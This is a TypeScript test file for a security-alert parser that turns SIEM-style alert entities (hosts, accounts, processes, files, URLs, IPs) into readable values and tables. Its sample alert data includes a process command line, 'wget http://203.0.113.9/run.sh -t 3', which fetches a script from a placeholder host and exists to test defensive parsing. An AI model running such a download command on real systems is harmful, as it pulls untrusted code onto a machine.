import { describe, expect, it } from 'vitest'
import { alertEntityTable } from '../../../src/analytics/alerts/alert-entity-table.ts'
import { readAlertEntities } from '../../../src/analytics/alerts/read-alert-entities.ts'
import { type Json, Table } from '../../../src/lib/table.ts'

function told(entities: Json, more: { compromisedEntity?: string; extendedProperties?: Json } = {}): string[] {
  return readAlertEntities({ entities, ...more }).entities.map(({ type, value }) => `${type} ${value}`)
}

const download = [
  { $id: '4', HostName: 'WEB02', DnsDomain: 'corp.example', OSFamily: 'Linux', Type: 'host' },
  { $id: '5', ProcessId: '0x4ccc', CommandLine: '', Host: { $ref: '4' }, Type: 'process' },
  { $id: '6', Name: 'dbadmin', Host: { $ref: '4' }, Sid: '1001:1001', Type: 'account', LogonId: '0x2e083' },
  {
    $id: '7',
    Directory: '/usr/bin',
    Name: 'wget',
    FileHashes: [{ $id: '10', Algorithm: 'SHA1', Value: 'A'.repeat(40), Type: 'filehash' }],
    Type: 'file',
  },
  {
    $id: '8',
    ProcessId: '0x4cd2',
    CommandLine: 'wget http://203.0.113.9/run.sh -t 3',
    ImageFile: { $ref: '7' },
    Account: { $ref: '6' },
    ParentProcess: { $ref: '5' },
    Host: { $ref: '4' },
    Type: 'process',
  },
  { $id: '9', SessionId: '0x2e083', Host: { $ref: '4' }, Account: { $ref: '6' }, Type: 'host-logon-session' },
]

describe('the entities of an alert', () => {
  it('are told by what they are called, their references resolved', () => {
    const { entities } = readAlertEntities({ entities: JSON.stringify(download) })
    expect(entities.map(({ type, value }) => `${type} ${value}`)).toEqual([
      'host WEB02.corp.example',
      'process process 0x4ccc',
      'account dbadmin',
      'file /usr/bin/wget',
      `hash ${'a'.repeat(40)}`,
      'process /usr/bin/wget',
      'logon-session 0x2e083',
      'url http://203.0.113.9/run.sh',
      'ip 203.0.113.9',
    ])
    expect(entities[5]?.detail).toBe(
      'wget http://203.0.113.9/run.sh -t 3; process 0x4cd2; by dbadmin; on WEB02.corp.example; started by process 0x4ccc',
    )
    expect(entities.at(-1)?.role).toBe('in a command line')
  })

  it.each<[string, Json, string]>([
    ['UPN in parts', { Type: 'account', Name: 'alice', UPNSuffix: 'contoso.com' }, 'account alice@contoso.com'],
    [
      'a whole UPN',
      { Type: 'account', Name: 'alice@contoso.com', UPNSuffix: 'contoso.com' },
      'account alice@contoso.com',
    ],
    ['a domain', { Type: 'Account', Name: 'alice', NTDomain: 'CONTOSO' }, 'account CONTOSO\\alice'],
    ['only a SID', { Type: 'account', Sid: 'S-1-5-18' }, 'account S-1-5-18'],
    ['only an id of Entra', { Type: 'account', AadUserId: '25e0c486' }, 'account 25e0c486'],
    ['a host without domain', { Type: 'host', HostName: 'web01', DnsDomain: '', NTDomain: 'X' }, 'host web01'],
    ['a host of Azure', { Type: 'host', AzureID: '/subscriptions/s/virtualMachines/vm1' }, 'host vm1'],
    ['a Windows file', { Type: 'file', Directory: 'C:\\Temp\\', Name: 'a.exe' }, 'file C:\\Temp\\a.exe'],
    ['DNS', { Type: 'dns', DomainName: 'bad.example' }, 'domain bad.example'],
    ['a mailbox', { Type: 'mailbox', MailboxPrimaryAddress: 'a@contoso.com' }, 'mailbox a@contoso.com'],
    ['an application', { Type: 'cloud-application', Name: 'Box', AppId: 10489 }, 'application Box'],
    ['a resource', { Type: 'azure-resource', ResourceId: '/subscriptions/s' }, 'resource /subscriptions/s'],
    ['a registry key', { Type: 'registry-key', Hive: 'HKLM', Key: 'Software\\Run' }, 'registry HKLM\\Software\\Run'],
    ['malware', { Type: 'malware', Name: 'EICAR' }, 'malware EICAR'],
    ['another alert', { Type: 'alerts', SystemAlertIds: ['2518'] }, 'alert 2518'],
    ['a kind nobody knows', { Type: 'quantum-fridge', FriendlyName: 'kitchen' }, 'Other kitchen'],
  ])('know %s', (_, entity, expected) => {
    expect(told([entity])).toEqual([expected])
  })

  it('survive references that go round or nowhere', () => {
    const round: Json = [
      { $id: '1', Type: 'host', HostName: 'a', Account: { $ref: '2' } },
      { $id: '2', Type: 'account', Name: 'b', Host: { $ref: '1' } },
      { $id: '3', Type: 'process', ProcessId: '1', ParentProcess: { $ref: '3' }, Host: { $ref: '99' } },
    ]
    expect(told(round)).toEqual(['host a', 'account b', 'process process 1'])
  })

  it('are read from a text of JSON that was written as JSON once more, and again', () => {
    const once = JSON.stringify([{ Type: 'ip', Address: '203.0.113.7' }])
    const thrice = JSON.stringify(JSON.stringify(once))
    expect(told(JSON.stringify(once))).toEqual(['ip 203.0.113.7'])
    expect(told(thrice)).toEqual(['ip 203.0.113.7'])
    expect(readAlertEntities({ entities: JSON.stringify(thrice) }).problem).toBe('is no JSON')
    expect(readAlertEntities({ entities: '"names nothing"' }).problem).toBe('is no JSON')
    expect(readAlertEntities({ entities: '""' }).problem).toBeUndefined()
  })

  it('survive JSON nested thousands of levels deep', () => {
    let nested: Json = { Type: 'ip', Address: '203.0.113.1' }
    for (let depth = 0; depth < 5000; depth++) nested = { Location: nested }
    expect(told([nested]).at(-1)).toBe('ip 203.0.113.1')
  })

  it('mark the one called compromised, or add it', () => {
    const host = { Type: 'host', HostName: 'web01', DnsDomain: 'corp.example' }
    const { entities } = readAlertEntities({ entities: [host], compromisedEntity: 'WEB01' })
    expect(entities.map(({ value, role }) => [value, role])).toEqual([['web01.corp.example', 'compromised']])
    expect(told([], { compromisedEntity: 'alice@contoso.com' })).toEqual(['account alice@contoso.com'])
    expect(told([], { compromisedEntity: '203.0.113.7' })).toEqual(['ip 203.0.113.7'])
    expect(told([], { compromisedEntity: 'Contoso tenant' })).toEqual(['Other Contoso tenant'])
  })

  it('are those extended properties name, but not those of the rule’s query', () => {
    const extendedProperties = JSON.stringify({
      'Client IP Address': '198.51.100.4',
      Query: "SigninLogs | where IPAddress != '198.51.100.99'",
    })
    const { entities } = readAlertEntities({ entities: '', extendedProperties })
    expect(entities.map(({ value, role }) => [value, role])).toEqual([['198.51.100.4', 'Client IP Address']])
  })
})

const alerts = (...rows: readonly (readonly [string, string, Json])[]) =>
  Table.fromRows(
    [
      { name: 'SystemAlertId', type: 'string' },
      { name: 'AlertName', type: 'string' },
      { name: 'Entities', type: 'string' },
    ],
    rows.map(([id, name, entities]) => [id, name, typeof entities === 'string' ? entities : JSON.stringify(entities)]),
  )

const ip = { Type: 'ip', Address: '203.0.113.7' }
const account = { Type: 'account', Name: 'Alice', UPNSuffix: 'contoso.com' }

describe('a table of the entities of alerts', () => {
  it('has a row for each, its value in the column of its type', () => {
    const { table } = alertEntityTable(alerts(['a1', 'Odd', [ip, account]]))
    expect([...table.objects()]).toMatchObject([
      { Type: 'ip', Value: '203.0.113.7', Address: '203.0.113.7', Account: '', SystemAlertId: 'a1' },
      { Type: 'account', Address: '', Account: 'Alice@contoso.com', AlertName: 'Odd' },
    ])
  })

  it('tells an entity of several alerts once, whatever its case, most named first', () => {
    const lower = { ...account, Name: 'alice' }
    const { table } = alertEntityTable(alerts(['a1', 'Odd', [ip, account]], ['a2', 'Even', [lower]]), {
      distinct: true,
    })
    expect([...table.objects()]).toMatchObject([
      { Value: 'Alice@contoso.com', Alerts: 2, AlertNames: ['Odd', 'Even'], SystemAlertIds: ['a1', 'a2'] },
      { Value: '203.0.113.7', Alerts: 1 },
    ])
  })

  it('says how many alerts it could not read', () => {
    const { table, notices } = alertEntityTable(alerts(['a1', 'Odd', '[{'], ['a2', 'Even', [ip]]))
    expect(table.rowCount).toBe(1)
    expect(notices).toEqual(['The entities of 1 of 2 alerts are no JSON and could not be read.'])
  })

  it('refuses a table without entities', () => {
    expect(() => alertEntityTable(Table.empty([{ name: 'A', type: 'string' }]))).toThrow('no column `Entities`')
  })
})
